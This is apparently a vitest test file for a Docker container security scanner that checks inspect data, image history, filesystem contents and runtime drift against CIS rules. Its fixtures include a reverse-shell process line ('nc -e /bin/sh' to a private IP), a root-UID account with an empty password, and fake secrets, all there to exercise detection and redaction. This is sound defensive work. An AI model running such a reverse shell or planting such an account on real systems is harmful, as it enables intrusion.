import { describe, expect, it } from 'vitest';
import { enabledRules, evaluate } from '../../../activities/scan/evaluate';
import { RULES } from '../../../activities/scan/rules';
import { available, emptyFilesystem, hardenedData, recorded, unavailable } from './recorded';

const all = enabledRules({ include: [], exclude: [] });
const ids = (r: ReturnType<typeof evaluate>) => r.findings.map((f) => f.ruleId);

describe('scan rules on recorded inspect data', () => {
  it('rule ids are unique and every rule says what it needs', () => {
    expect(new Set(RULES.map((r) => r.id)).size).toBe(RULES.length);
    for (const r of RULES) expect(r.needs.length).toBeGreaterThan(0);
  });

  it('the hardened container passes every check; AppArmor and SELinux are not applicable without daemon support', () => {
    expect(evaluate(hardenedData(), all)).toEqual({
      findings: [],
      notApplicable: [
        { ruleId: 'CIS-5.2', reason: 'the Docker daemon has no AppArmor support on this host' },
        { ruleId: 'CIS-5.3', reason: 'the Docker daemon runs without SELinux on this host' },
      ],
    });
  });

  it('the loose container: exact runtime and image findings with their evidence', () => {
    const data = hardenedData({
      container: recorded.looseInspect(),
      image: available(recorded.appImage()),
      baseline: unavailable('no baseline yet'),
    });
    const { findings } = evaluate(data, all);
    expect(findings.map((f) => [f.ruleId, f.severity, f.evidence])).toEqual([
      ['CIS-5.4', 'high', ['HostConfig.CapAdd includes NET_ADMIN', 'HostConfig.CapAdd includes SYS_ADMIN']],
      ['CIS-5.6', 'high', ['/etc mounted read-write at /host-etc']],
      ['CIS-5.8', 'medium', ['8080/tcp published on host port 81']],
      ['CIS-5.11', 'medium', ['HostConfig.Memory=0 (unlimited)']],
      ['CIS-5.12', 'low', ['HostConfig.CpuShares=0 (default)']],
      ['CIS-5.13', 'medium', ['HostConfig.ReadonlyRootfs=false']],
      ['CIS-5.14', 'medium', ['8080/tcp published on 0.0.0.0:81']],
      ['CIS-5.15', 'low', ['RestartPolicy=always']],
      ['CIS-5.16', 'high', ['HostConfig.PidMode=host']],
      ['CIS-5.17', 'high', ['HostConfig.IpcMode=host']],
      ['CIS-5.18', 'medium', ['device /dev/null at /dev/xnull']],
      ['CIS-5.21', 'medium', ['HostConfig.UTSMode=host']],
      ['CIS-5.22', 'high', ['HostConfig.SecurityOpt includes seccomp=unconfined']],
      ['CIS-5.26', 'medium', ['HostConfig.SecurityOpt lacks no-new-privileges']],
      ['CIS-5.29', 'medium', ['HostConfig.PidsLimit=null']],
      ['CIS-5.30', 'low', ['attached to the default bridge (docker0)']],
      ['CIS-5.32', 'critical', ['/var/run/docker.sock mounted at /var/run/docker.sock']],
      ['CIS-4.1', 'medium', ['Config.User="", image USER ""']],
    ]);
  });

  it('privileged, host network, user namespace, shared propagation, latest tag and AppArmor from edited inspect data', () => {
    const c = recorded.hardenedInspect();
    Object.assign(c.HostConfig, { Privileged: true, NetworkMode: 'host', UsernsMode: 'host' });
    c.Mounts = [
      { Type: 'bind', Source: '/srv/data', Destination: '/data', Mode: '', RW: true, Propagation: 'rshared' },
    ] as typeof c.Mounts;
    c.Config.Image = 'registry.example:5000/team/app';
    c.AppArmorProfile = 'unconfined';
    const data = hardenedData({
      container: c,
      daemon: available({ securityOptions: ['name=apparmor', 'name=seccomp,profile=default'] }),
    });
    expect(evaluate(data, all).findings.map((f) => [f.ruleId, f.evidence])).toEqual([
      ['CIS-5.2', ['AppArmorProfile="unconfined"']],
      ['CIS-5.5', ['HostConfig.Privileged=true']],
      ['CIS-5.10', ['HostConfig.NetworkMode=host']],
      ['CIS-5.20', ['/data propagation rshared']],
      ['CIS-5.31', ['HostConfig.UsernsMode=host']],
      ['DH-IMG-LATEST', ['Config.Image=registry.example:5000/team/app']],
    ]);
  });

  it('image history and ENV: ADD, update alone, sudo and secrets (values redacted)', () => {
    const image = recorded.hardenedImage();
    image.inspect.Config.Env = ['PATH=/usr/bin', 'DB_PASSWORD=hunter2hunter2', 'NOTE=AKIAABCDEFGHIJKLMNOP'];
    image.history = [
      { CreatedBy: '/bin/sh -c #(nop) ADD file:abc in / ' },
      { CreatedBy: '/bin/sh -c apt-get update' },
      { CreatedBy: '/bin/sh -c apt-get update && apt-get install -y curl' },
      { CreatedBy: '/bin/sh -c sudo chmod +x /x' },
      { CreatedBy: '/bin/sh -c curl -H API_TOKEN=s3cr3tvalue https://x' },
    ];
    const { findings } = evaluate(hardenedData({ image: available(image) }), all);
    expect(findings.map((f) => [f.ruleId, f.evidence])).toEqual([
      ['CIS-4.7', ['history layer 1: /bin/sh -c apt-get update']],
      ['CIS-4.9', ['history layer 0: /bin/sh -c #(nop) ADD file:abc in /']],
      [
        'CIS-4.10',
        [
          'ENV DB_PASSWORD=<redacted, 14 chars>',
          'ENV NOTE=<redacted, 20 chars> looks like a AWS access key id',
          'history layer 4: sets API_TOKEN=<redacted, 11 chars>',
        ],
      ],
      ['DH-IMG-SUDO', ['history layer 3: /bin/sh -c sudo chmod +x /x']],
    ]);
    expect(JSON.stringify(findings)).not.toContain('hunter2');
  });

  it('history evidence of CIS-4.7, CIS-4.9 and DH-IMG-SUDO is redacted as CIS-4.10 redacts', () => {
    const image = recorded.hardenedImage();
    image.history = [
      { CreatedBy: '/bin/sh -c #(nop) ADD https://user:s3cretpass@example.com/a.tgz /' },
      { CreatedBy: '/bin/sh -c DB_PASSWORD=hunter2hunter2 apt-get update' },
      { CreatedBy: '/bin/sh -c sudo curl -H DB_PASSWORD=hunter2hunter2 https://x' },
    ];
    const { findings } = evaluate(hardenedData({ image: available(image) }), all);
    const evidence = Object.fromEntries(findings.map((f) => [f.ruleId, f.evidence]));
    expect(evidence['CIS-4.9']).toEqual([
      'history layer 0: /bin/sh -c #(nop) ADD https://user:<redacted>@example.com/a.tgz /',
    ]);
    expect(evidence['CIS-4.7']).toEqual([
      'history layer 1: /bin/sh -c DB_PASSWORD=<redacted, 14 chars> apt-get update',
    ]);
    expect(evidence['DH-IMG-SUDO']).toEqual([
      'history layer 2: /bin/sh -c sudo curl -H DB_PASSWORD=<redacted, 14 chars> https://x',
    ]);
    expect(JSON.stringify(findings)).not.toMatch(/hunter2|s3cretpass/);
  });

  it('filesystem: keys by content (a certificate is not a key), credentials, setuid, world-writable, empty passwords, duplicate UIDs', () => {
    const fs = emptyFilesystem();
    fs.candidates = [
      { path: 'app/server.key', size: 1700, head: '-----BEGIN PRIVATE KEY-----\nMIIE…' },
      { path: 'etc/ssl/certs/ca.pem', size: 1200, head: '-----BEGIN CERTIFICATE-----\nMIID…' },
      { path: 'root/.ssh/id_rsa', size: 1700, head: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl…' },
      { path: 'app/.env', size: 40, head: 'PORT=8080\nSTRIPE_API_KEY=sk_live_abc\n' },
      { path: 'app/.env.example', size: 40, head: 'PORT=8080\nSTRIPE_API_KEY=\n' },
      { path: 'srv/credentials.json', size: 90, head: '{"type":"service_account","private_key":"-----BEGIN"}' },
    ];
    fs.setuid = [{ path: 'usr/bin/passwd', mode: 0o4755, type: 'file' }];
    fs.worldWritable = [{ path: 'etc/app.conf', mode: 0o666, type: 'file' }];
    fs.passwd = 'root:x:0:0::/root:/bin/sh\ntoor::0:0::/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\n';
    fs.shadow = 'root:*:1::::::\ntoor::1::::::\n';
    const { findings } = evaluate(hardenedData({ filesystem: available(fs) }), all);
    expect(findings.map((f) => [f.ruleId, f.evidence])).toEqual([
      ['CIS-4.8', ['/usr/bin/passwd (mode 4755)']],
      ['DH-FS-PRIVATE-KEY', ['/app/server.key: private key (PEM)', '/root/.ssh/id_rsa: OPENSSH private key (PEM)']],
      [
        'DH-FS-CREDENTIALS',
        ['/app/.env: secret variables in a .env file', '/srv/credentials.json: secrets in credentials.json'],
      ],
      ['DH-FS-WORLD-WRITABLE', ['/etc/app.conf (file, mode 666)']],
      [
        'DH-FS-EMPTY-PASSWORD',
        ['/etc/shadow: toor has an empty password', '/etc/passwd: toor has an empty password field'],
      ],
      ['DH-FS-DUPLICATE-UID', ['UID 0: root, toor']],
    ]);
  });

  it('runtime drift: new process, shell on a TTY, network tool, unexposed listener, /etc change, new executable, exec sessions', () => {
    const data = hardenedData({
      processes: available([
        { pid: 100, user: 'nobody', tty: '?', comm: 'busybox', args: '/bin/busybox httpd -f -p 8080 -h /www' },
        { pid: 200, user: 'root', tty: 'pts/0', comm: 'sh', args: 'sh' },
        { pid: 201, user: 'root', tty: '?', comm: 'nc', args: 'nc -e /bin/sh 10.0.0.1 4444' },
      ]),
      listeners: available([
        { proto: 'tcp6', address: '::', port: 8080 },
        { proto: 'tcp', address: '0.0.0.0', port: 4444 },
        { proto: 'tcp', address: '127.0.0.11', port: 41234 },
      ]),
      changes: available([
        { path: '/etc', kind: 'modified' },
        { path: '/etc/passwd', kind: 'modified' },
        { path: '/tmp/x', kind: 'added' },
        { path: '/tmp/notes.txt', kind: 'added' },
      ]),
      filesystem: available({
        ...emptyFilesystem(),
        changedModes: [
          { path: 'tmp/x', mode: 0o755, type: 'file' },
          { path: 'tmp/notes.txt', mode: 0o644, type: 'file' },
        ],
      }),
      execs: available([
        { id: 'a'.repeat(64), user: '0', privileged: true, running: true, command: 'sh' },
        {
          id: 'b'.repeat(64),
          user: '',
          privileged: false,
          running: false,
          command: '/bin/busybox wget -q -O /dev/null http://127.0.0.1:8080/health',
        },
      ]),
    });
    expect(evaluate(data, all).findings.map((f) => [f.ruleId, f.evidence])).toEqual([
      ['CIS-5.23', ['exec aaaaaaaaaaaa (running): sh']],
      ['CIS-5.24', ['exec aaaaaaaaaaaa as 0 (running): sh']],
      [
        'DH-RT-NEW-PROCESS',
        ['process 200 sh (user root): sh', 'process 201 nc (user root): nc -e /bin/sh 10.0.0.1 4444'],
      ],
      ['DH-RT-SHELL-TTY', ['process 200 sh on pts/0: sh']],
      ['DH-RT-NETWORK-TOOL', ['process 201 nc: nc -e /bin/sh 10.0.0.1 4444']],
      ['DH-RT-LISTEN', ['tcp 0.0.0.0:4444 listening']],
      ['DH-RT-SYSTEM-CHANGE', ['modified /etc/passwd']],
      ['DH-RT-NEW-EXECUTABLE', ['added /tmp/x (mode 755)']],
    ]);
  });

  it('what Docker itself adds (--init, --tmpfs targets) is not drift; a real change beside it still is', () => {
    const base = hardenedData();
    const container = {
      ...base.container,
      HostConfig: { ...base.container.HostConfig, Init: true, Tmpfs: { '/run/app': '' } },
    } as typeof base.container;
    const data = hardenedData({
      container,
      changes: available([
        { path: '/sbin', kind: 'modified' },
        { path: '/sbin/docker-init', kind: 'added' },
        { path: '/run', kind: 'modified' },
        { path: '/run/app', kind: 'added' },
        { path: '/sbin/evil', kind: 'added' },
      ]),
      filesystem: available({
        ...emptyFilesystem(),
        changedModes: [
          { path: 'sbin/docker-init', mode: 0o755, type: 'file' },
          { path: 'sbin/evil', mode: 0o755, type: 'file' },
        ],
      }),
    });
    expect(evaluate(data, all).findings.map((f) => [f.ruleId, f.evidence])).toEqual([
      ['DH-RT-SYSTEM-CHANGE', ['added /sbin/evil']],
      ['DH-RT-NEW-EXECUTABLE', ['added /sbin/evil (mode 755)']],
    ]);
  });

  it('marks checks not applicable when their data cannot be had, and never guesses', () => {
    const data = hardenedData({
      processes: unavailable('the container is not running'),
      listeners: unavailable('remote engine'),
      filesystem: unavailable('export failed'),
      baseline: unavailable('no baseline yet'),
    });
    const r = evaluate(data, all);
    expect(r.findings).toEqual([]);
    expect(r.notApplicable.map((n) => n.ruleId)).toEqual([
      'CIS-5.2',
      'CIS-5.3',
      'CIS-5.7',
      'CIS-4.8',
      'DH-FS-PRIVATE-KEY',
      'DH-FS-CREDENTIALS',
      'DH-FS-WORLD-WRITABLE',
      'DH-FS-EMPTY-PASSWORD',
      'DH-FS-DUPLICATE-UID',
      'DH-RT-NEW-PROCESS',
      'DH-RT-SHELL-TTY',
      'DH-RT-NETWORK-TOOL',
      'DH-RT-LISTEN',
      'DH-RT-NEW-EXECUTABLE',
    ]);
    expect(r.notApplicable.find((n) => n.ruleId === 'CIS-5.7')!.reason).toBe('the container is not running');
  });

  it('check selection: include prefixes and exclude ids', () => {
    const picked = enabledRules({ include: ['CIS-5.*', 'DH-FS-PRIVATE-KEY'], exclude: ['CIS-5.2', 'CIS-5.3'] });
    expect(picked.map((r) => r.id)).toContain('CIS-5.32');
    expect(picked.map((r) => r.id)).not.toContain('CIS-4.1');
    expect(picked.map((r) => r.id)).not.toContain('CIS-5.2');
    expect(ids(evaluate(hardenedData({ container: recorded.looseInspect() }), picked))).toEqual([
      'CIS-5.4',
      'CIS-5.6',
      'CIS-5.8',
      'CIS-5.11',
      'CIS-5.12',
      'CIS-5.13',
      'CIS-5.14',
      'CIS-5.15',
      'CIS-5.16',
      'CIS-5.17',
      'CIS-5.18',
      'CIS-5.21',
      'CIS-5.22',
      'CIS-5.26',
      'CIS-5.29',
      'CIS-5.30',
      'CIS-5.32',
    ]);
  });
});
